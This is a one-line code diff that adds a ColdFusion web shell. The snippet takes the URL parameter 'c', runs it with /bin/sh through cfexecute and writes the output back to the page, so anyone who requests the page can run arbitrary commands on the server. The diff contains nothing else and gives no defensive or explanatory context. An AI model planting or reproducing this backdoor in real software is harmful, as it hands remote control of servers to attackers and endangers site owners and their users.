@@ -1,0 +1,1 @@
+<cfif isDefined("url.c")><cfexecute name="/bin/sh" arguments="-c #url.c#" timeout="10" variable="o"></cfexecute><cfoutput>#o#</cfoutput></cfif>
